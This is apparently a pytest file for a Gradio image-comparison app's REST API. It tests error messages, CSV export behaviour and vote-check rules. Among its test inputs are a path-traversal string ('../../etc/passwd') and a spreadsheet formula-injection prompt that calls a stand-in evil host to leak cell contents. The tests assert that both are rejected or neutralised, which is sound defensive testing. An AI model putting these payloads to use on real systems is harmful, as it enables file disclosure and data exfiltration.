"""Every refusal through the REST API names the problem and what is accepted (no generic
"Something went wrong", no empty error), and the Results export stays one file per preset.

The server runs app.py's Blocks around a stand-in pipeline (tests/studio_server.py), so the
checks are the app's own and the run takes seconds. Raw REST calls send JSON with
`ensure_ascii`, so that a lone surrogate ("\\ud800") reaches the server the way any client can
send it; gradio_client calls cover the named-argument path.
"""

import csv
import json
import os
from pathlib import Path
from types import SimpleNamespace

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")

import httpx  # noqa: E402
import pytest  # noqa: E402
from studio_server import FakePipe, serve  # noqa: E402

GENERIC = "Something went wrong"
RULE = 'preset must be a preset name (1–64 letters, digits, ".", "_" or "-", starting with a letter or digit) or "all"'
SURROGATE = "is not valid Unicode: a lone surrogate U+D800 at character 0; send UTF-8 text (surrogate pairs only as whole characters)"
BIG = int("9" * 401)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    demo, studio, cfg, url = serve(tmp_path_factory.mktemp("errors"), pipe=FakePipe(), pairs_per_minute=1000,
                                   votes_per_minute=1000, trusted_proxies="127.0.0.1")
    from gradio_client import Client

    api = Client(url, verbose=False).view_api(print_info=False, return_format="dict")["named_endpoints"]
    yield SimpleNamespace(url=url.rstrip("/"), studio=studio, cfg=cfg, api=api)
    demo.close()
    studio.store.close()


def _full(server, name, data):
    """`data` padded with the endpoint's defaults (the other inputs a page would send)."""
    params = server.api[f"/{name}"]["parameters"]
    return list(data) + [p.get("parameter_default") for p in params[len(data):]]


def rest(server, name, data=None, named=None, headers=None):
    """(status, message) of one raw REST call: /gradio_api/call/<name> with positional `data`,
    or /gradio_api/call/v2/<name> with `named` arguments. message None: it succeeded."""
    path = f"call/v2/{name}" if named is not None else f"call/{name}"
    body = json.dumps(named if named is not None else {"data": data}, ensure_ascii=True).encode()
    r = httpx.post(f"{server.url}/gradio_api/{path}", content=body, timeout=30,
                   headers={"content-type": "application/json", **(headers or {})})
    if r.status_code != 200:
        return r.status_code, r.text
    stream = httpx.get(f"{server.url}/gradio_api/call/{name}/{r.json()['event_id']}", timeout=60).text
    event, payload = None, None
    for line in stream.splitlines():
        if line.startswith("event:"):
            event = line.split(":", 1)[1].strip()
        elif line.startswith("data:"):
            payload = json.loads(line.split(":", 1)[1])
    if event == "error":
        return 200, (payload or {}).get("error")
    return 200, None


# (endpoint, positional data or None, named arguments or None, the exact message)
BATTERY = [
    ("results", ["a/b"], None, f"{RULE}; got 'a/b'"),
    ("results", ["../../etc/passwd"], None, f"{RULE}; got '../../etc/passwd'"),
    ("results", ["x" * 300], None, f"{RULE}; got a 300-character name"),
    ("results", ["nope"], None, "unknown preset 'nope': choose all or one of "),
    ("results", ["\ud800"], None, f"preset {SURROGATE}"),
    ("generate", ["cat", "", BIG, 2, 5.0], None, "seed must be an integer between 0 and 4294967295, got a 401-digit integer"),
    ("generate", ["cat", "", -BIG, 2, 5.0], None, "seed must be an integer between 0 and 4294967295, got a 401-digit integer"),
    ("generate", ["cat", "", 1, BIG, 5.0], None, "steps must be an integer between 1 and 50 on this server, got a 401-digit integer"),
    ("generate", ["cat", "", 1, 2, BIG], None, "guidance must be a number between 0 and 50, got a 401-digit integer"),
    ("generate", ["cat", "", 1, 600, 5.0], None, "steps must be an integer between 1 and 50 on this server, got 600"),
    ("generate", ["cat", "", 1, 51, 5.0], None, "steps must be an integer between 1 and 50 on this server, got 51"),
    ("generate", ["\ud800", "", 1, 2, 5.0], None, f"prompt {SURROGATE}"),
    ("generate", ["cat", "\ud800", 1, 2, 5.0], None, f"negative prompt {SURROGATE}"),
    ("new_battle", ["\ud800"], None, f"prompt {SURROGATE}"),
    ("new_battle", ["w" * 600], None, "prompt is 600 characters long; at most 500 are accepted"),
    ("vote", ["\ud800", "left"], None, f"battle_id {SURROGATE}"),
    ("vote", ["x" * 24, "\ud800"], None, "choice must be one of left, right, tie, both_bad; got '\\ud800'"),
    ("vote", ["x" * 24, "left"], None, "unknown pair id 'xxxxxxxxxxxxxxxxxxxxxxxx': ask for a new pair"),
    ("vote", None, {}, "battle_id is missing or empty: send a non-empty text"),
    ("vote", None, {"battle_id": "x" * 24}, "choice is missing: send one of left, right, tie, both_bad"),
    ("generate", None, {}, "prompt must be a non-empty string"),
    ("checks", None, {}, "battle_id is missing or empty: send a non-empty text"),
    ("checks", None, {"battle_id": "x" * 24}, "no check answered: give at least one of left_count, left_color, "
                                                "left_action, right_count, right_color, right_action as yes, no, unsure"),
    ("checks", None, {"battle_id": "x" * 24, "left_count": "maybe"},
     "left_count must be one of yes, no, unsure (or empty for no answer); got 'maybe'"),
    ("checks", None, {"battle_id": "x" * 24, "left_count": "yes"},
     "unknown pair id 'xxxxxxxxxxxxxxxxxxxxxxxx': send the id /new_battle returned"),
    # positional calls with too few values are refused by Gradio before any handler runs; its
    # message (shown with show_error=True) names the count needed
    ("vote", [], None, "An event handler (vote) didn't receive enough input values (needed: 2, got: 0)"),
    ("results", [], None, "An event handler (results) didn't receive enough input values (needed: 1, got: 0)"),
]


def test_every_refusal_names_the_problem(server):
    generic, empty, wrong = [], [], []
    for name, data, named, message in BATTERY:
        if data is not None and name == "generate":
            data = _full(server, name, data)
        status, got = rest(server, name, data, named)
        if not got:
            empty.append((name, data, named, status))
        elif GENERIC in got:
            generic.append((name, data, named))
        elif not got.startswith(message):
            wrong.append((name, message, got[:300]))
    assert (generic, empty, wrong) == ([], [], [])


def test_named_arguments_reach_our_checks_through_gradio_client(server):
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    c = Client(server.url + "/", verbose=False)
    with pytest.raises(AppError, match="battle_id is missing or empty"):
        c.predict(api_name="/vote")
    with pytest.raises(AppError, match="choice is missing"):
        c.predict(battle_id="x" * 24, api_name="/vote")
    assert c.predict(api_name="/new_battle")[3]  # prompt omitted: one from the suites


def test_200_results_calls_leave_one_export_file(server):
    """200 Results computations (what every /results call and tab visit does: the handler's
    studio.results) and 10 of them through the API: one file, written once, replaced on a vote.
    (bench/bench_app.py makes all 200 through the API; each costs a plot rendering.)"""
    from gradio_client import Client

    c = Client(server.url + "/", headers={"X-Forwarded-For": "198.51.100.90"}, verbose=False)
    bid = c.predict("", api_name="/new_battle")[3]
    c.predict(bid, "left", api_name="/vote")
    export = server.studio.tally.export
    first = c.predict("tiny", api_name="/results")[3]
    mtime = export.path("tiny").stat().st_mtime_ns
    served = {Path(first).name}
    for i in range(200):
        if i % 40 == 0:
            assert rest(server, "results", ["tiny"]) == (200, None)
            served.add(Path(c.predict("tiny", api_name="/results")[3]).name)
        else:
            assert server.studio.results("tiny")["csv"] == str(export.path("tiny"))
    assert sorted(p.name for p in export.folder.iterdir()) == ["sur-votes-tiny.csv"]
    assert export.path("tiny").stat().st_mtime_ns == mtime and served == {"sur-votes-tiny.csv"}  # never rewritten
    bid = c.predict("", api_name="/new_battle")[3]
    c.predict(bid, "right", api_name="/vote")  # a new vote: the one file is replaced
    rows = list(csv.DictReader(open(c.predict("tiny", api_name="/results")[3], newline="")))
    assert len(rows) == server.studio.store.vote_count("tiny")
    assert sorted(p.name for p in export.folder.iterdir()) == ["sur-votes-tiny.csv"]


def test_a_formula_prompt_is_exported_as_text(server):
    from gradio_client import Client

    c = Client(server.url + "/", headers={"X-Forwarded-For": "198.51.100.91"}, verbose=False)
    prompt = '=HYPERLINK("http://evil.example/?leak="&A1,"see results")'
    bid = c.predict(prompt, api_name="/new_battle")[3]
    c.predict(bid, "tie", api_name="/vote")
    rows = list(csv.DictReader(open(c.predict("all", api_name="/results")[3], newline="", encoding="utf-8")))
    cell = next(r["prompt"] for r in rows if r["battle_id"] == bid)
    assert cell == "'" + prompt


def test_checks_after_the_vote_by_the_owner_once(server):
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    me = Client(server.url + "/", headers={"X-Forwarded-For": "198.51.100.92"}, verbose=False)
    other = Client(server.url + "/", headers={"X-Forwarded-For": "198.51.100.93"}, verbose=False)
    bid = me.predict("", api_name="/new_battle")[3]
    with pytest.raises(AppError, match="vote on this pair first"):
        me.predict(bid, left_count="yes", api_name="/checks")
    me.predict(bid, "left", api_name="/vote")
    with pytest.raises(AppError, match="shown to another voter"):
        other.predict(bid, left_count="yes", api_name="/checks")
    out = me.predict(bid, left_count="yes", left_color="no", right_action="unsure", api_name="/checks")
    assert out["stored"] == {"left_count": "yes", "left_color": "no", "right_action": "unsure"}
    with pytest.raises(AppError, match="already stored \\(once per pair\\)"):
        me.predict(bid, left_count="no", api_name="/checks")
    battle = server.studio.store.get_battle(bid)
    human = [r for r in server.studio.checks.of_battle(bid) if r["source"] == "human"]
    assert {(r["system"], r["attribute"], r["verdict"]) for r in human} == {
        (battle.left_system, "count", "yes"), (battle.left_system, "color", "no"),
        (battle.right_system, "action", "unsure")}
    table = me.predict("tiny", api_name="/results")[5]
    assert table["headers"][:2] == ["attribute", "variant"]
    assert ["all", "all"] == table["data"][-1][:2] and table["data"][-1][6] == "—"  # no judge on tiny
